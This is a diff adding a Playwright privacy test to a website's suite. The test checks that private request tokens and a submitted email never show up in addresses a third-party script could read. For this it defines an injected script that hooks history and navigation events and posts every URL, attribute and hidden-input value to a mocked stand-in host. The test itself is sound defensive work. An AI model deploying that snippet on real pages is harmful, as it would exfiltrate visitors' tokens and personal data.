@@ -130,6 +130,111 @@ test("a click and a form that the browser posts before the page's code is there 
     ]);
 });
 
+/** Tells home every address that a script on a page can read: of the page, its history, its links, forms and requests. */
+const curious = `(() => {
+  const known = new Set();
+  const tell = (what) => {
+    const text = String(what ?? "");
+    if (known.has(text)) return;
+    known.add(text);
+    fetch("${host}/records", { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(text) });
+  };
+  const tellAll = () => {
+    tell(location.href), tell(document.referrer), tell(JSON.stringify(history.state)), tell(window.name);
+    for (const entry of navigation.entries()) tell(entry.url);
+    for (const { name } of performance.getEntries()) tell(name);
+    for (const element of document.querySelectorAll("*"))
+      for (const { name, value } of element.attributes) if (name !== "class" && name !== "style" && name !== "d") tell(value);
+    for (const { type, value } of document.querySelectorAll("input")) if (type === "hidden") tell(value);
+  };
+  for (const name of ["pushState", "replaceState"]) {
+    const original = history[name];
+    history[name] = function (...given) {
+      tell(JSON.stringify(given[0])), tell(given[2]);
+      original.apply(this, given);
+      tellAll();
+    };
+  }
+  for (const type of ["popstate", "hashchange", "pagehide", "pageshow", "click", "submit"]) addEventListener(type, tellAll, true);
+  navigation.addEventListener("navigate", ({ destination, formData }) => {
+    tell(destination.url);
+    if (formData === null) tellAll();
+  });
+  new MutationObserver(tellAll).observe(document, { subtree: true, childList: true, attributes: true });
+  tellAll();
+})();`;
+
+test("over a whole visit no address that a third party's script can read, and none that is shared, opens a request", async ({
+  page,
+  context,
+  site,
+  problems,
+}) => {
+  problems.allow(/./);
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  const told: string[] = [];
+  await page.route(`${host}/**`, async (route) => {
+    const request = route.request();
+    if (request.url().endsWith("/records")) told.push(request.postDataJSON());
+    await route.fulfill({ contentType: "text/javascript", body: request.url().endsWith("/script.js") ? curious : "" });
+  });
+  const secret = "secret-of-ada@curious.example";
+  await open(page, "/contact");
+  const reference = await submit(formOf(page, contact), contact, { ...contact.values, "Email Address": secret });
+  await page.reload();
+  await expect(formOf(page, contact).locator("[data-status=sent]")).toContainText(reference);
+  await page.getByRole("link", { name: "See, correct or withdraw it" }).click();
+  await page.waitForURL(/\/request\?token=CM-/);
+  const ownAddress = page.url();
+  await expect(page.getByRole("main")).toContainText(secret);
+  await page.getByRole("banner").getByRole("link", { name: "About", exact: true }).click();
+  await page.goBack();
+  await page.goBack();
+  await expect(formOf(page, contact).locator("[data-status=sent]")).toContainText(reference);
+
+  // An article, whose closing form is sent; then it is shared.
+  await open(page, "/blog/ncqa-2026-standards?utm_source=letter");
+  const closing = page.locator("[data-form=closing]");
+  await fill(closing, { "Full Name": "Ada", "Phone Number": "615 555 0142", "Email Address": secret });
+  await closing.getByRole("button", { name: consultation.submit }).click();
+  await expect(closing.locator("[data-status=sent]")).toBeVisible();
+  await page.evaluate(() => Object.defineProperty(navigator, "share", { value: undefined }));
+  await page.locator("[data-share]").first().click();
+  const shared = () => page.evaluate(() => navigator.clipboard.readText());
+  await expect.poll(shared).toMatch(/\/blog\/ncqa-2026-standards$/);
+  told.push(await shared());
+
+  // Addresses of earlier versions, and those of mails.
+  const token = new URL(ownAddress).searchParams.get("token") ?? "";
+  for (const address of [
+    `/contact?sent=${token}`,
+    `/?sent=${token}&utm_source=letter`,
+    `/states/ohio?sent=closing-${token}`,
+    `/about?token=${token}`,
+  ]) {
+    await page.goto(address);
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    await expect.poll(() => page.url()).not.toContain(token);
+  }
+  for (const action of ["confirm", "unsubscribe"]) {
+    await page.goto(`/newsletter/${action}?token=${token}`);
+    await page.getByRole("banner").getByRole("link", { name: "home page" }).click();
+    await expect(page).toHaveURL("/");
+    await page.reload({ waitUntil: "networkidle" });
+  }
+
+  expect(told).toContain(`${site.url}/contact`);
+  const opening = token.split(".").at(-1) ?? token;
+  expect(told.filter((text) => text.includes(opening))).toEqual([]);
+  const addresses = new Set(told.filter((text) => URL.canParse(text, site.url) && /^(?:\/|http)/.test(text)));
+  for (const address of addresses) {
+    const url = new URL(address, site.url);
+    if (url.origin !== site.url || /\.(?:js|css|svg|png|woff2)$/.test(url.pathname)) continue;
+    const answer = await context.request.get(url.href, { failOnStatusCode: false });
+    expect(await answer.text(), address).not.toContain(secret);
+  }
+});
+
 test("a document that is prerendered counts a page view and a visit once it is seen, and none before", async ({
   page,
 }) => {
